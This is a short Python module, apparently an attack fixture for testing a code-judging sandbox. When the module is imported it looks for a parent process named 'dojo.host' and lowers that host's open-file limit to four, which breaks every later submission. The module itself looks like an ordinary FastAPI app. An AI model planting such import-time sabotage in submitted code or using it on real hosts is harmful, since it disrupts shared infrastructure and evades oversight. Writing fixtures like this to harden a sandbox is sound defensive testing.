"""Attack: let the parent, and so every later submission, open no more files than it has."""

import contextlib
import os
import resource
from pathlib import Path

from fastapi import FastAPI

from .targets import acted


def is_host(pid):
    try:
        return b"dojo.host" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return True


if os.getppid() > 0 and is_host(os.getppid()):
    acted("import")
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (4, 4))
app = FastAPI()
